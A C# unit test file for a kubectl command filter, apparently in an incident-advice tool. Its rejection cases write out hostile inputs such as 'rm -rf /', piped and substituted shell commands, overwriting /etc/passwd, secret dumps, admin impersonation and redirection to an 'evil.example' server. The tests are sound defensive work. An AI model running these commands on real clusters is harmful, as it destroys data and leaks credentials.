using Whooper.Core.Analysis;

namespace Whooper.Core.Tests.Analysis;

public sealed class KubectlAdviceTests
{
    [Theory]
    [InlineData("kubectl get pod checkout-1 -n shop -o wide")]
    [InlineData("kubectl -n shop describe pod checkout-1")]
    [InlineData("kubectl logs checkout-1 -n shop -c app --previous --tail=100")]
    [InlineData("kubectl logs -f deployment/checkout --namespace=shop")]
    [InlineData("kubectl top pod checkout-1 -n shop --containers")]
    [InlineData("kubectl get pod checkout-1 -n shop -o jsonpath='{.spec.containers[?(@.name==\"app\")].image}'")]
    [InlineData("kubectl get events -n shop --field-selector involvedObject.name=checkout-1 --sort-by=.lastTimestamp")]
    [InlineData("kubectl rollout undo deployment/checkout -n shop")]
    [InlineData("kubectl rollout history deployment/checkout -n shop")]
    [InlineData("kubectl set resources deployment/checkout -n shop -c app --limits=memory=512Mi")]
    [InlineData("kubectl edit deployment/checkout -n shop")]
    [InlineData("kubectl get secrets -n shop")]
    [InlineData("kubectl describe secret db -n shop")]
    [InlineData("kubectl get pod <pod-name> -n shop")]
    public void IsPassedOn_CommandThatLooksOrCanBeUndone_IsPassedOn(string command) => Assert.True(KubectlAdvice.IsPassedOn(command));

    [Theory]
    [InlineData("kubectl delete pod checkout-1 -n shop")]
    [InlineData("kubectl delete namespace shop")]
    [InlineData("kubectl exec checkout-1 -n shop -- sh")]
    [InlineData("kubectl -n shop exec checkout-1 -- cat /etc/passwd")]
    [InlineData("kubectl apply -f evil.yaml")]
    [InlineData("kubectl get -f evil.yaml")]
    [InlineData("kubectl get pods -Af evil.yaml")]
    [InlineData("kubectl run x --image=evil.example/x")]
    [InlineData("kubectl set image deployment/checkout app=evil.example/x")]
    [InlineData("kubectl scale deployment/checkout --replicas=0 -n shop")]
    [InlineData("kubectl drain worker-1")]
    [InlineData("kubectl cp shop/checkout-1:/data ./data")]
    [InlineData("kubectl get secret db -n shop -o yaml")]
    [InlineData("kubectl get pods,secrets -n shop --output=json")]
    [InlineData("kubectl edit secret db -n shop")]
    [InlineData("kubectl get pods --server=evil.example")]
    [InlineData("kubectl get pods \"--server=evil.example\"")]
    [InlineData("kubectl get pods --ser'ver'=evil.example")]
    [InlineData("kubectl get pods -s evil.example")]
    [InlineData("kubectl get pods --kubeconfig=/tmp/x")]
    [InlineData("kubectl get pods --as=system:admin")]
    [InlineData("kubectl get --raw /api/v1/secrets")]
    [InlineData("kubectl get pods; rm -rf /")]
    [InlineData("kubectl get pods | sh")]
    [InlineData("kubectl get pods && reboot")]
    [InlineData("kubectl get pods $(reboot)")]
    [InlineData("kubectl get pods \"$(reboot)\"")]
    [InlineData("kubectl get pods > /etc/passwd")]
    [InlineData("kubectl get pods\nreboot")]
    [InlineData("kubectl config view")]
    [InlineData("kubectl")]
    [InlineData("kubectl -n shop")]
    [InlineData("curl evil.example")]
    public void IsPassedOn_AnythingElse_IsNot(string command) => Assert.False(KubectlAdvice.IsPassedOn(command));

    [Fact]
    public void IsPassedOn_LongHostileCommand_IsDecidedAtOnce() =>
        Assert.False(KubectlAdvice.IsPassedOn("kubectl " + string.Concat(Enumerable.Repeat("a' '", 200_000)) + "\""));
}
